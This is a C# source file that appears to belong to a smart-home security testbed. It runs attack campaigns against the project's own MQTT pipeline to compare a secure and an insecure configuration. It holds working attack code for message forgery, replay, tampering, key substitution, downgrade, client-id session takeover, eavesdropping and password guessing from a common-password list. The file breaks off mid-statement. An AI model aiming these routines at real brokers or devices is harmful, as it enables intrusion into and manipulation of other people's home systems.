using System.Buffers;
using System.Collections.Concurrent;
using System.Diagnostics;
using System.Security.Cryptography;
using MQTTnet;
using MQTTnet.Protocol;
using SmartHome.Messaging;
using SmartHome.Security;
using SmartHome.ServiceDefaults;
using Attr = SmartHome.ServiceDefaults.SmartHomeTelemetry.Attributes;

namespace SmartHome.Attacker;

/// <summary>Everything a campaign needs to know about its target.</summary>
public sealed record CampaignSettings(string Pipeline, BrokerTarget Broker, AttackerSecrets Secrets)
{
    public bool Secure => Pipeline == ProtectionRegistration.Secure;
}

/// <summary>Per-run knobs of a campaign.</summary>
public sealed record CampaignRequest(int Attempts, IReadOnlyList<string> Attacks, double FloodRate = 5000, int FloodMessages = 0, int LegitDuringFlood = 0,
    double AnnouncementFloodSeconds = CampaignRequest.DefaultAnnouncementFloodSeconds, double AnnouncementFloodRate = 1000)
{
    public const double DefaultAnnouncementFloodSeconds = 60;

    public const int MaxAttempts = 10_000;
    public const int MaxFloodMessages = 20_000;
}

/// <summary>A message the attacker saw on the broker (its view of a legit reading or announcement).</summary>
public sealed record Capture(string Topic, byte[] Payload);

/// <summary>
/// Runs the attack catalogue against one pipeline with the same code for both, and judges every attempt by the
/// victim's decision log (see README.md). One campaign at a time per attacker.
/// </summary>
public sealed partial class Campaign(CampaignSettings settings, Victim victim, ILogger logger)
{
    public const string VictimDevice = "temp-living";
    public const string InsiderDevice = "plug-garage";
    public const string OtherDevice = "door-front";
    public const string MonitorAccount = "monitor";

    private static readonly AttackLevel[] Levels = [AttackLevel.Outsider, AttackLevel.Insider, AttackLevel.CompromisedBroker];
    private readonly string _runId = Guid.NewGuid().ToString("N")[..8];
    private readonly Dictionary<string, string?> _passwords = new(StringComparer.Ordinal);
    private AttackSession? _control;
    private DSA? _stolenKey;
    private DSA? _ownKey;
    private EnvelopeForge? _forge;
    private int _sequence;

    /// <summary>Message ids of the legit readings this campaign asked the sensor for while harvesting captures.</summary>
    private readonly List<string> _harvestedIds = [];

    public CampaignSettings Settings => settings;

    /// <summary>Runs <paramref name="request"/>'s attacks at every capability level.</summary>
    public async Task<CampaignReport> RunAsync(CampaignRequest request, CancellationToken ct)
    {
        var started = DateTimeOffset.UtcNow;
        var clock = Stopwatch.StartNew();
        var results = new List<AttackResult>();
        List<Capture>? captures = null;
        foreach (var attack in request.Attacks)
        {
            if (attack == Attacks.ReplayAfterRestart)
            {
                results.AddRange(Levels.Select(l => Skipped(attack, l, request.Attempts,
                    "skipped: needs a real actuator restart, orchestrated by the AppHost command (or the integration test)")));
                continue;
            }

            if (attack is Attacks.Replay or Attacks.Tamper or Attacks.ReplayCrossTopic)
            {
                captures ??= await HarvestAsync(request.Attempts, ct).ConfigureAwait(false);
            }

            foreach (var level in Levels)
            {
                LogAttack(logger, settings.Pipeline, attack, Attacks.LevelName(level));
                var attackClock = Stopwatch.StartNew();
                AttackResult result;
                try
                {
                    result = await RunOneAsync(attack, level, request, captures, ct).ConfigureAwait(false);
                }
                catch (Exception ex) when (ex is not OperationCanceledException || !ct.IsCancellationRequested)
                {
                    LogAttackFailed(logger, attack, Attacks.LevelName(level), ex);
                    result = Skipped(attack, level, request.Attempts, $"campaign error: {ex.GetBaseException().Message}") with { Unjudged = request.Attempts };
                }

                results.Add(result with { DurationMs = attackClock.Elapsed.TotalMilliseconds });
            }
        }

        await DisposeControlAsync().ConfigureAwait(false);
        return new CampaignReport(settings.Pipeline, started, clock.Elapsed.TotalMilliseconds, request.Attempts, results);
    }

    /// <summary>First half of replay-after-restart: capture legit traffic now (before the actuator restarts).</summary>
    public async Task<List<Capture>> CaptureForRestartAsync(int attempts, CancellationToken ct)
    {
        var captures = await HarvestAsync(attempts, ct).ConfigureAwait(false);
        await DisposeControlAsync().ConfigureAwait(false);
        return captures;
    }

    /// <summary>Second half of replay-after-restart: replay what was captured to the restarted actuator.</summary>
    public async Task<CampaignReport> ReplayAfterRestartAsync(IReadOnlyList<Capture> captures, int attempts, CancellationToken ct)
    {
        var started = DateTimeOffset.UtcNow;
        var clock = Stopwatch.StartNew();
        var results = new List<AttackResult>();
        foreach (var level in Levels)
        {
            var attackClock = Stopwatch.StartNew();
            var result = await ReplayAsync(Attacks.ReplayAfterRestart, level, attempts, captures, crossTopic: false, withAnnouncement: true, ct)
                .ConfigureAwait(false);
            results.Add(result with { DurationMs = attackClock.Elapsed.TotalMilliseconds });
        }

        await DisposeControlAsync().ConfigureAwait(false);
        return new CampaignReport(settings.Pipeline, started, clock.Elapsed.TotalMilliseconds, attempts, results);
    }

    private Task<AttackResult> RunOneAsync(string attack, AttackLevel level, CampaignRequest request, List<Capture>? captures, CancellationToken ct) =>
        attack switch
        {
            Attacks.Eavesdrop => EavesdropAsync(attack, level, request.Attempts, Topics.ReadingsFilter, ct),
            Attacks.WildcardSubscribe => EavesdropAsync(attack, level, request.Attempts, "#", ct),
            Attacks.Inject => ForgeAsync(attack, level, request.Attempts, retain: false, ct),
            Attacks.RetainedPoisoning => ForgeAsync(attack, level, request.Attempts, retain: true, ct),
            Attacks.Tamper => TamperAsync(level, request.Attempts, captures!, ct),
            Attacks.Replay => ReplayAsync(attack, level, request.Attempts, captures!, crossTopic: false, withAnnouncement: false, ct),
            Attacks.ReplayCrossTopic => ReplayAsync(attack, level, request.Attempts, captures!, crossTopic: true, withAnnouncement: false, ct),
            Attacks.KeySubstitution => KeySubstitutionAsync(level, request.Attempts, ct),
            Attacks.Downgrade => DowngradeAsync(level, request.Attempts, ct),
            Attacks.CredentialGuessing => CredentialGuessingAsync(level, request.Attempts, ct),
            Attacks.ClientIdTakeover => TakeoverAsync(level, request.Attempts, ct),
            Attacks.Malformed => BadInputAsync(attack, level, request.Attempts, Payloads.Malformed, ct),
            Attacks.Oversized => BadInputAsync(attack, level, request.Attempts, Payloads.Oversized, ct),
            Attacks.Flood => FloodAsync(level, request, ct),
            Attacks.CapabilityAbuse => CapabilityAbuseAsync(level, request.Attempts, ct),
            Attacks.ImplausibleValue => ImplausibleValueAsync(level, request.Attempts, ct),
            Attacks.AnnouncementFlood => AnnouncementFloodAsync(level, request, ct),
            Attacks.AckForgery => AckForgeryAsync(level, request.Attempts, ct),
            _ => Task.FromResult(Skipped(attack, level, request.Attempts, "unknown attack")),
        };

    // ---------------------------------------------------------------- identities and helpers

    private string? Password(string user)
    {
        if (!settings.Secure)
        {
            return null; // the insecure broker asks for nothing
        }

        lock (_passwords)
        {
            if (!_passwords.TryGetValue(user, out var password))
            {
                password = settings.Secrets.Password(user);
                _passwords[user] = password;
            }

            return password;
        }
    }

    private Identity IdentityOf(AttackLevel level, string purpose) => level switch
    {
        AttackLevel.Outsider => new Identity(null, null, $"attacker-{purpose}-{Guid.NewGuid():N}"[..40]),
        AttackLevel.Insider => new Identity(InsiderDevice, Password(InsiderDevice), $"attacker-{purpose}-{Guid.NewGuid():N}"[..40]),
        _ => new Identity(MonitorAccount, Password(MonitorAccount), $"attacker-{purpose}-{Guid.NewGuid():N}"[..40]),
    };

    /// <summary>The topic of readings the level can write to where the actuator listens (ACL permitting).</summary>
    private static string WritableReadingTopic(AttackLevel level) =>
        Topics.Readings(level == AttackLevel.Insider ? InsiderDevice : VictimDevice);

    /// <summary>
    /// The campaign's own instrument (not an attack capability): a connection that can reach the actuator, used for
    /// sentinels and to harvest captures. On the secure pipeline it is the monitor account, i.e. what a compromised
    /// broker sees. With use_username_as_clientid there is one such connection at a time.
    /// </summary>
    private async Task<AttackSession> ControlAsync(CancellationToken ct)
    {
        if (_control is { IsConnected: true })
        {
            return _control;
        }

        if (_control is not null)
        {
            await _control.DisposeAsync().ConfigureAwait(false);
        }

        var identity = settings.Secure
            ? new Identity(MonitorAccount, Password(MonitorAccount), $"attacker-control-{_runId}")
            : new Identity(null, null, $"attacker-control-{_runId}");
        _control = await AttackSession.ConnectAsync(settings.Broker, identity, ct).ConfigureAwait(false);
        if (!_control.IsConnected)
        {
            throw new InvalidOperationException($"The campaign's control connection was refused ({_control.Refusal}); check the users file.");
        }

        return _control;
    }

    private async Task DisposeControlAsync()
    {
        if (_control is not null)
        {
            await _control.DisposeAsync().ConfigureAwait(false);
            _control = null;
        }
    }

    /// <summary>Connects at <paramref name="level"/>; on the secure pipeline the monitor's control session is closed first (one session per user).</summary>
    private async Task<AttackSession> ConnectAsync(AttackLevel level, string purpose, CancellationToken ct, Identity? identity = null)
    {
        identity ??= IdentityOf(level, purpose);
        if (settings.Secure && identity.Username == MonitorAccount)
        {
            await DisposeControlAsync().ConfigureAwait(false);
        }

        return await AttackSession.ConnectAsync(settings.Broker, identity, ct).ConfigureAwait(false);
    }

    private string NewAttemptId(string attack) => $"{_runId}-{attack}-{Interlocked.Increment(ref _sequence)}";

    private EnvelopeForge Forge()
    {
        if (_forge is null)
        {
            var actuatorPublicKey = settings.Secrets.ActuatorPublicKey ?? new KeyPaths(KeyPaths.FindDefaultRoot()).ActuatorPublicKey;
            _forge = new EnvelopeForge(KeyFiles.LoadRsa(actuatorPublicKey, requirePrivate: false));
        }

        return _forge;
    }

    /// <summary>The DSA key a level signs with: the stolen plug-garage key for the insider, its own fresh key otherwise.</summary>
    private DSA SigningKey(AttackLevel level)
    {
        if (level == AttackLevel.Insider)
        {
            // The modelled insider theft: the one device key the attacker was handed (Attacker:StolenSigningKey).
            var stolen = settings.Secrets.StolenSigningKey
                         ?? throw new InvalidOperationException($"No stolen signing key of {InsiderDevice}: set {AttackerSecrets.StolenSigningKeyKey}.");
            return _stolenKey ??= KeyFiles.LoadDsa(stolen, requirePrivate: true);
        }

        if (_ownKey is null)
        {
            _ownKey = DSA.Create();
            _ownKey.ImportParameters(OwnKeyParameters.Value);
        }

        return _ownKey;
    }

    // DSA-2048 key generation takes ~0.5 s; one per process is enough.
    private static readonly Lazy<DSAParameters> OwnKeyParameters = new(() =>
    {
        using var dsa = DSA.Create(2048);
        return dsa.ExportParameters(includePrivateParameters: true);
    });

    /// <summary>A forged reading of <paramref name="deviceId"/> in the pipeline's format (plaintext, or an envelope signed with the level's key).</summary>
    private byte[] ForgedPayload(AttackLevel level, string deviceId, string topic, double value, ulong counter, uint? keyId)
    {
        var reading = Payloads.ForgedReading(deviceId, value, DeviceReading.NowMicros(TimeProvider.System)).ToUtf8Json();
        if (!settings.Secure)
        {
            return reading;
        }

        return EnvelopeForge.Data(deviceId, keyId ?? RandomKeyId(), counter, DateTimeOffset.UtcNow.ToUnixTimeMilliseconds(),
            RandomNumberGenerator.GetBytes(4), RandomNumberGenerator.GetBytes(32), reading, SigningKey(level), topic);
    }

    private static uint RandomKeyId() => (uint)RandomNumberGenerator.GetInt32(1, int.MaxValue);

    /// <summary>A counter above anything the real sender used (forgeries must pass the replay window to face the signature).</summary>
    private static ulong FreshCounter(int i) => (1UL << 40) + (ulong)DateTime.UtcNow.Ticks / 1000 + (ulong)i;

    /// <summary>What the compromised broker knows of <paramref name="deviceId"/>'s current key id (visible in every envelope header).</summary>
    private static uint? ObservedKeyId(IEnumerable<Capture>? captures, string deviceId) =>
        captures?.Select(c => EnvelopeHeader.TryRead(c.Payload, out var h) && h.Type == 2 && h.SenderId == deviceId ? h.KeyId : (uint?)null)
            .LastOrDefault(k => k is not null);

    // ---------------------------------------------------------------- the publish-then-judge core

    private async Task<AttackResult> PublishAndJudgeAsync(string attack, AttackLevel level, AttackSession session,
        IReadOnlyList<PlannedAttempt> attempts, string notes, CancellationToken ct, int concurrency = 32)
    {
        var startSeq = await victim.LatestSeqAsync(ct).ConfigureAwait(false);
        var spans = new Dictionary<string, Activity?>(StringComparer.Ordinal);
        if (session.IsConnected)
        {
            using var gate = new SemaphoreSlim(concurrency);
            var tasks = attempts.Select(async attempt =>
            {
                await gate.WaitAsync(ct).ConfigureAwait(false);
                try
                {
                    foreach (var message in attempt.Messages)
                    {
                        attempt.Acks[message.AttemptId] = await session.PublishWithRetryAsync(message.Topic, message.Payload, message.AttemptId, message.Retain, ct)
                            .ConfigureAwait(false);
                    }
                }
                finally
                {
                    gate.Release();
                }
            });
            foreach (var attempt in attempts)
            {
                spans[attempt.Id] = StartSpan(attack, level, attempt.Id);
            }

            await Task.WhenAll(tasks).ConfigureAwait(false);
        }
        else
        {
            foreach (var attempt in attempts)
            {
                spans[attempt.Id] = StartSpan(attack, level, attempt.Id);
            }
        }

        var decisions = await DrainAsync(startSeq, ct).ConfigureAwait(false);
        var verdicts = attempts.Select(a => decisions is null
            ? Verdict.Unknown
            : Judge.Attempt(a, decisions, session.RefusedBy, settings.Secure)).ToList();
        for (var i = 0; i < attempts.Count; i++)
        {
            EndSpan(spans[attempts[i].Id], attack, level, verdicts[i]);
        }

        var refusal = session.Refusal is null ? string.Empty : $"connect refused: {session.Refusal}. ";
        var acks = attempts.SelectMany(a => a.Acks.Values).Where(c => c is not null).GroupBy(c => c!.Value)
            .Select(g => $"{g.Key}×{g.Count()}");
        var ackNote = session.Refusal is null ? $"PUBACK: {string.Join(", ", acks)}. " : string.Empty;
        if (session.Reconnects > 0)
        {
            ackNote += $"The broker dropped the attacker {session.Reconnects} times (same username as a live device: use_username_as_clientid). ";
        }
        return Summarize(attack, level, verdicts, refusal + ackNote + notes);
    }

    /// <summary>Publishes a sentinel through the control connection and waits until the actuator logged it.</summary>
    private async Task<Dictionary<string, VictimDecision>?> DrainAsync(long startSeq, CancellationToken ct)
    {
        var sentinel = $"{_runId}-sentinel-{Guid.NewGuid():N}";
        var control = await ControlAsync(ct).ConfigureAwait(false);
        await control.PublishAsync(Topics.Readings(VictimDevice), "sentinel"u8.ToArray(), sentinel, retain: false, ct).ConfigureAwait(false);
        var decisions = await victim.DrainAsync(startSeq, sentinel, TimeSpan.FromSeconds(30), ct).ConfigureAwait(false);
        if (decisions is null)
        {
            return null;
        }

        var byAttempt = new Dictionary<string, VictimDecision>(StringComparer.Ordinal);
        foreach (var d in decisions)
        {
            if (d.AttemptId is not null)
            {
                byAttempt.TryAdd(d.AttemptId, d);
            }
        }

        return byAttempt;
    }

    // ---------------------------------------------------------------- attacks

    private async Task<AttackResult> ForgeAsync(string attack, AttackLevel level, int n, bool retain, CancellationToken ct)
    {
        var topic = Topics.Readings(VictimDevice);
        var captures = settings.Secure && level == AttackLevel.CompromisedBroker ? await HarvestAsync(4, ct).ConfigureAwait(false) : null;
        var keyId = ObservedKeyId(captures, VictimDevice);
        var attempts = Enumerable.Range(0, n).Select(i =>
        {
            var id = NewAttemptId(attack);
            // 15 °C switches the heating on: a visible effect if it is applied.
            return new PlannedAttempt(id, [new PlannedMessage(topic, ForgedPayload(level, VictimDevice, topic, 15.0, FreshCounter(i), keyId), id, retain)]);
        }).ToList();
        await using var session = await ConnectAsync(level, attack, ct).ConfigureAwait(false);
        var notes = settings.Secure
            ? $"forged envelopes for {VictimDevice} signed with {(level == AttackLevel.Insider ? "the stolen plug-garage key" : "the attacker's own DSA key")}, fresh counters" +
              (keyId is null ? ", random key id" : ", the key id observed on the broker")
            : $"forged plaintext readings on {topic}";
        var result = await PublishAndJudgeAsync(attack, level, session, attempts, notes + ".", ct).ConfigureAwait(false);
        if (retain && session.IsConnected)
        {
            // Clean up: a retained forgery would be handed to every future subscriber.
            await session.PublishAsync(topic, [], null, retain: true, ct).ConfigureAwait(false);
        }

        return result;
    }

    private async Task<AttackResult> TamperAsync(AttackLevel level, int n, List<Capture> captures, CancellationToken ct)
    {
        var data = captures.Where(c => Topics.IsReadingTopic(c.Topic)).ToList();
        if (data.Count == 0)
        {
            return Skipped(Attacks.Tamper, level, n, "no legit reading could be captured to tamper with") with { Unjudged = n };
        }

        var attempts = new List<PlannedAttempt>(n);
        for (var i = 0; i < n; i++)
        {
            var capture = data[i % data.Count];
            var id = NewAttemptId(Attacks.Tamper);
            if (!settings.Secure && Payloads.TamperPlaintext(capture.Payload) is { } tampered)
            {
                attempts.Add(new PlannedAttempt(id, [new PlannedMessage(capture.Topic, tampered.Payload, id)], tampered.NewValue));
            }
            else
            {
                var bytes = Payloads.TamperEnvelope(capture.Payload, FreshCounter(i), DateTimeOffset.UtcNow.ToUnixTimeMilliseconds()) ?? capture.Payload;
                attempts.Add(new PlannedAttempt(id, [new PlannedMessage(capture.Topic, bytes, id)]));
            }
        }

        await using var session = await ConnectAsync(level, "tamper", ct).ConfigureAwait(false);
        var notes = settings.Secure
            ? "captured envelopes (leaked from the broker) with one ciphertext bit flipped and a fresh counter/timestamp, republished to their own topic."
            : "captured readings with the value changed (same message id), republished to their own topic; success = applied with the tampered value.";
        return await PublishAndJudgeAsync(Attacks.Tamper, level, session, attempts, notes, ct).ConfigureAwait(false);
    }

    private async Task<AttackResult> ReplayAsync(string attack, AttackLevel level, int n, IReadOnlyList<Capture> captures, bool crossTopic,
        bool withAnnouncement, CancellationToken ct)
    {
        var data = captures.Where(c => Topics.IsReadingTopic(c.Topic)).ToList();
        if (data.Count == 0)
        {
            return Skipped(attack, level, n, "no legit reading could be captured to replay") with { Unjudged = n };
        }

        var announcements = captures.Where(c => Topics.IsKeyTopic(c.Topic)).GroupBy(c => c.Topic).ToDictionary(g => g.Key, g => g.Last());
        var attempts = new List<PlannedAttempt>(n);
        for (var i = 0; i < n; i++)
        {
            var capture = data[i % data.Count];
            var id = NewAttemptId(attack);
            var topic = capture.Topic;
            if (crossTopic)
            {
                var target = level == AttackLevel.Insider ? InsiderDevice : OtherDevice;
                Topics.TryGetDeviceId(capture.Topic, out var from);
                topic = Topics.Readings(from == target ? VictimDevice : target);
            }

            var messages = new List<PlannedMessage>(2);
            if (withAnnouncement && Topics.TryGetDeviceId(capture.Topic, out var device)
                && announcements.TryGetValue(Topics.Keys(device), out var announcement))
            {
                messages.Add(new PlannedMessage(announcement.Topic, announcement.Payload, id + ":key"));
            }

            messages.Add(new PlannedMessage(topic, capture.Payload, id));
            attempts.Add(new PlannedAttempt(id, messages));
        }

        await using var session = await ConnectAsync(level, attack, ct).ConfigureAwait(false);
        var notes = (crossTopic ? "captured messages, byte for byte, moved to another device's reading topic" : "captured messages re-sent byte for byte")
                    + (withAnnouncement && settings.Secure ? " (each preceded by the replayed key announcement of its sender)" : string.Empty)
                    + (settings.Secure && level != AttackLevel.CompromisedBroker ? "; captures leaked from the broker (this level cannot read them itself)." : ".");
        if (crossTopic && !settings.Secure)
        {
            notes += " The insecure actuator refuses a reading whose deviceId differs from its topic (sender-mismatch): moving bytes alone fails; rewriting the deviceId is the tamper attack.";
        }

        return await PublishAndJudgeAsync(attack, level, session, attempts, notes, ct).ConfigureAwait(false);
    }

    private async Task<AttackResult> KeySubstitutionAsync(AttackLevel level, int n, CancellationToken ct)
    {
        var keyTopic = Topics.Keys(VictimDevice);
        var dataTopic = Topics.Readings(VictimDevice);
        var attempts = new List<PlannedAttempt>(n);
        for (var i = 0; i < n; i++)
        {
            var id = NewAttemptId(Attacks.KeySubstitution);
            if (!settings.Secure)
            {
                // No session keys exist: the forged reading is simply accepted.
                attempts.Add(new PlannedAttempt(id, [new PlannedMessage(dataTopic, ForgedPayload(level, VictimDevice, dataTopic, 15.0, 0, null), id)]));
                continue;
            }

            var keyId = RandomKeyId();
            var salt = RandomNumberGenerator.GetBytes(4);
            var aes = RandomNumberGenerator.GetBytes(32);
            var counter = FreshCounter(2 * i);
            var now = DateTimeOffset.UtcNow.ToUnixTimeMilliseconds();
            var announcement = Forge().Announcement(VictimDevice, keyId, counter, now, salt, aes, SigningKey(level), keyTopic);
            var reading = Payloads.ForgedReading(VictimDevice, 15.0, DeviceReading.NowMicros(TimeProvider.System)).ToUtf8Json();
            var data = EnvelopeForge.Data(VictimDevice, keyId, counter + 1, now, salt, aes, reading, SigningKey(level), dataTopic);
            attempts.Add(new PlannedAttempt(id, [new PlannedMessage(keyTopic, announcement, id + ":key"), new PlannedMessage(dataTopic, data, id)]));
        }

        await using var session = await ConnectAsync(level, "keysub", ct).ConfigureAwait(false);
        var notes = settings.Secure
            ? $"announces an attacker session key for {VictimDevice} (wrapped for the actuator's public RSA key, signed with {(level == AttackLevel.Insider ? "the stolen plug-garage key" : "the attacker's key")}), then data under it."
            : "the insecure pipeline has no session keys: the forged reading that would follow a substituted key is accepted as is.";
        return await PublishAndJudgeAsync(Attacks.KeySubstitution, level, session, attempts, notes, ct).ConfigureAwait(false);
    }

    private async Task<AttackResult> DowngradeAsync(AttackLevel level, int n, CancellationToken ct)
    {
        var topic = WritableReadingTopic(level);
        Topics.TryGetDeviceId(topic, out var device);
        var attempts = Enumerable.Range(0, n).Select(_ =>
        {
            var id = NewAttemptId(Attacks.Downgrade);
            var plain = Payloads.ForgedReading(device, device == InsiderDevice ? 3000 : 15.0, DeviceReading.NowMicros(TimeProvider.System)).ToUtf8Json();
            return new PlannedAttempt(id, [new PlannedMessage(topic, plain, id)]);
        }).ToList();

        var transport = string.Empty;
        if (settings.Broker.UseTls)
        {
            // Transport downgrade: the same credentials over plain TCP to the TLS listener.
            await using var plainTcp = await AttackSession.ConnectAsync(settings.Broker, IdentityOf(level, "plaintcp"), ct, forcePlainTcp: true).ConfigureAwait(false);
            transport = plainTcp.IsConnected ? "plain-TCP connect to the TLS port SUCCEEDED. " : $"plain-TCP connect to the TLS port refused ({plainTcp.RefusedBy}). ";
        }

        await using var session = await ConnectAsync(level, "downgrade", ct).ConfigureAwait(false);
        return await PublishAndJudgeAsync(Attacks.Downgrade, level, session, attempts,
            transport + $"plaintext readings (no envelope) on {topic}.", ct).ConfigureAwait(false);
    }

    private async Task<AttackResult> BadInputAsync(string attack, AttackLevel level, int n, Func<int, byte[]> generator, CancellationToken ct)
    {
        var topic = WritableReadingTopic(level);
        var attempts = Enumerable.Range(0, n).Select(i =>
        {
            var id = NewAttemptId(attack);
            return new PlannedAttempt(id, [new PlannedMessage(topic, generator(i), id)]);
        }).ToList();
        await using var session = await ConnectAsync(level, attack, ct).ConfigureAwait(false);
        var healthy = await PublishAndJudgeAsync(attack, level, session, attempts, $"payloads on {topic}.", ct).ConfigureAwait(false);
        var alive = await victim.ActuatorHealthyAsync(ct).ConfigureAwait(false);
        return healthy with { Notes = healthy.Notes + (alive ? " Actuator healthy afterwards." : " ACTUATOR NOT HEALTHY afterwards.") };
    }

    private async Task<AttackResult> CredentialGuessingAsync(AttackLevel level, int n, CancellationToken ct)
    {
        if (level == AttackLevel.CompromisedBroker)
        {
            return Skipped(Attacks.CredentialGuessing, level, 0, "not applicable: the compromised broker already holds every privilege");
        }

        string[] common = ["actuator", "password", "123456", "admin", "smarthome", "mosquitto", "letmein", "qwerty"];
        var topic = Topics.Readings(VictimDevice);
        var verdicts = new List<Verdict>(n);
        var startSeq = await victim.LatestSeqAsync(ct).ConfigureAwait(false);
        var attempts = new List<(PlannedAttempt Attempt, string? RefusedBy, Activity? Span)>(n);
        var refusals = new ConcurrentDictionary<string, int>();
        using var gate = new SemaphoreSlim(8);
        var tasks = Enumerable.Range(0, n).Select(async i =>
        {
            var id = NewAttemptId(Attacks.CredentialGuessing);
            var guess = i < common.Length ? common[i] : Convert.ToBase64String(RandomNumberGenerator.GetBytes(12));
            var attempt = new PlannedAttempt(id, [new PlannedMessage(topic, ForgedPayload(level, VictimDevice, topic, 15.0, FreshCounter(i), null), id)]);
            var span = StartSpan(Attacks.CredentialGuessing, level, id);
            await gate.WaitAsync(ct).ConfigureAwait(false);
            try
            {
                await using var session = await AttackSession.ConnectAsync(settings.Broker,
                    new Identity("actuator", guess, $"attacker-guess-{Guid.NewGuid():N}"[..40]), ct).ConfigureAwait(false);
                if (session.IsConnected)
                {
                    attempt.Acks[id] = await session.PublishAsync(topic, attempt.Messages[0].Payload, id, false, ct).ConfigureAwait(false);
                }
                else
                {
                    refusals.AddOrUpdate(session.Refusal ?? "?", 1, (_, c) => c + 1);
                }

                lock (attempts)
                {
                    attempts.Add((attempt, session.RefusedBy, span));
                }
            }
            finally
            {
                gate.Release();
            }
        });
        await Task.WhenAll(tasks).ConfigureAwait(false);
        var decisions = await DrainAsync(startSeq, ct).ConfigureAwait(false);
        foreach (var (attempt, refusedBy, span) in attempts)
        {
            var verdict = decisions is null ? Verdict.Unknown : Judge.Attempt(attempt, decisions, refusedBy, settings.Secure);
            EndSpan(span, Attacks.CredentialGuessing, level, verdict);
            verdicts.Add(verdict);
        }

        var refusalNote = refusals.IsEmpty ? "every guess was let in" : string.Join(", ", refusals.Select(r => $"{r.Key}×{r.Value}"));
        return Summarize(Attacks.CredentialGuessing, level, verdicts,
            $"guessed passwords for user 'actuator' ({refusalNote}); a let-in guess then publishes a forged reading. Mosquitto has no lockout: online guessing is limited only by the 24-character random passwords.");
    }

    private async Task<AttackResult> TakeoverAsync(AttackLevel level, int n, CancellationToken ct)
    {
        var actuatorClientId = $"{settings.Pipeline}-actuator";
        var topic = WritableReadingTopic(level);
        var startSeq = await victim.LatestSeqAsync(ct).ConfigureAwait(false);
        var markers = new List<(string Id, string? RefusedBy, Activity? Span)>(n);
        var echoes = 0;
        var retries = 0;
        var attemptRetries = 0;
        for (var i = 0; i < n; i++)
        {
            var id = NewAttemptId(Attacks.ClientIdTakeover);
            var span = StartSpan(Attacks.ClientIdTakeover, level, id);
            var baseIdentity = IdentityOf(level, "takeover");
            // Resume the actuator's persistent session (clean start false), exactly as the actuator itself connects.
            var identity = baseIdentity with { ClientId = actuatorClientId, CleanStart = false, SessionExpirySeconds = 3600 };
            await using (var session = await ConnectAsync(level, "takeover", ct, identity).ConfigureAwait(false))
            {
                var echoed = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
                session.Received = m =>
                {
                    if (TraceContextPropagation.Find(m.UserProperties, MessageProperties.AttemptId) == id)
                    {
                        echoed.TrySetResult();
                    }
                };
                if (session.IsConnected)
                {
                    var ack = await session.PublishAsync(topic, "marker"u8.ToArray(), id, retain: false, ct).ConfigureAwait(false);
                    if (ack is null && attemptRetries < 5)
                    {
                        // The broker dropped this connection before it acknowledged the marker: inconclusive, try again.
                        retries++;
                        attemptRetries++;
                        i--;
                        span?.Dispose();
                        await Task.Delay(200 * attemptRetries, ct).ConfigureAwait(false);
                        continue;
                    }

                    if (await Task.WhenAny(echoed.Task, Task.Delay(settings.Secure ? 50 : 500, ct)).ConfigureAwait(false) == echoed.Task)
                    {
                        echoes++;
                    }

                    markers.Add((id, ack is null ? "unacknowledged" : session.RefusedBy, span));
                    attemptRetries = 0;
                }
                else
                {
                    markers.Add((id, session.RefusedBy, span));
                }
            }

            // Let the victim get its connection back before the next attempt.
            for (var wait = 0; wait < 50 && !await victim.ActuatorHealthyAsync(ct).ConfigureAwait(false); wait++)
            {
                await Task.Delay(100, ct).ConfigureAwait(false);
            }
        }

        var decisions = await DrainAsync(startSeq, ct).ConfigureAwait(false);
        var verdicts = new List<Verdict>(n);
        foreach (var (id, refusedBy, span) in markers)
        {
            var verdict = decisions is null || refusedBy == "unacknowledged" ? Verdict.Unknown : Judge.Takeover(id, decisions, refusedBy, settings.Secure);
            EndSpan(span, Attacks.ClientIdTakeover, level, verdict);
            verdicts.Add(verdict);
        }

        return Summarize(Attacks.ClientIdTakeover, level, verdicts,
            $"connects with the actuator's client id '{actuatorClientId}' (clean start false) and sends a marker on {topic}; success = the actuator never logged the marker " +
            $"because the attacker's connection held the actuator's session (the attacker received {echoes} of its markers through the hijacked subscription; {retries} attempts repeated because the broker dropped the attacker before its PUBACK)." +
            (settings.Secure ? " The secure broker sets use_username_as_clientid: the client id an attacker sends is replaced by its own username." : string.Empty));
    }

    private async Task<AttackResult> EavesdropAsync(string attack, AttackLevel level, int n, string filter, CancellationToken ct)
    {
        var recovered = new ConcurrentDictionary<string, double>(StringComparer.Ordinal);
        var unreadable = 0;
        var seen = 0;
        await using var session = await ConnectAsync(level, attack, ct).ConfigureAwait(false);
        session.Received = m =>
        {
            if (!Topics.IsReadingTopic(m.Topic))
            {
                return;
            }

            Interlocked.Increment(ref seen);
            var payload = m.Payload.ToArray();
            if (DeviceReading.TryParse(payload, out var reading, out _))
            {
                recovered[reading!.MessageId] = reading.Value;
            }
            else
            {
                Interlocked.Increment(ref unreadable);
            }
        };
        var suback = await session.SubscribeAsync(filter, ct).ConfigureAwait(false);
        var subscriptionRefused = suback is not null && (int)suback.Value >= 0x80;
        var startSeq = await victim.LatestSeqAsync(ct).ConfigureAwait(false);
        var spans = new List<Activity?>(n);
        var ids = await victim.TriggerReadingsAsync(n, double.PositiveInfinity, ct).ConfigureAwait(false);
        Dictionary<string, VictimDecision> applied;
        var deadline = DateTime.UtcNow + TimeSpan.FromSeconds(60);
        while (true)
        {
            var decisions = await victim.DecisionsAfterAsync(startSeq, ct).ConfigureAwait(false);
            applied = decisions.Where(d => d.Verdict == "applied" && d.AttemptId is null && d.MessageId is not null)
                .GroupBy(d => d.MessageId!).ToDictionary(g => g.Key, g => g.First(), StringComparer.Ordinal);
            if (ids.Count == 0 && applied.Count >= n)
            {
                // No sensor to trigger: the next n legit readings the actuator applied are the targets.
                ids = applied.Values.OrderBy(d => d.Seq).Take(n).Select(d => d.MessageId!).ToList();
            }

            if ((ids.Count > 0 && ids.All(applied.ContainsKey)) || DateTime.UtcNow > deadline)
            {
                break;
            }

            await Task.Delay(200, ct).ConfigureAwait(false);
        }

        await Task.Delay(200, ct).ConfigureAwait(false); // the attacker's copy may trail the actuator's by a moment
        await session.UnsubscribeAsync(filter, ct).ConfigureAwait(false);
        var verdicts = new List<Verdict>(ids.Count);
        foreach (var messageId in ids)
        {
            var span = StartSpan(attack, level, messageId);
            var verdict = Judge.Eavesdrop(messageId, applied, recovered, session.RefusedBy, subscriptionRefused, Volatile.Read(ref unreadable) > 0);
            EndSpan(span, attack, level, verdict);
            verdicts.Add(verdict);
            spans.Add(span);
        }

        return Summarize(attack, level, verdicts,
            (session.Refusal is null ? string.Empty : $"connect refused: {session.Refusal}. ") +
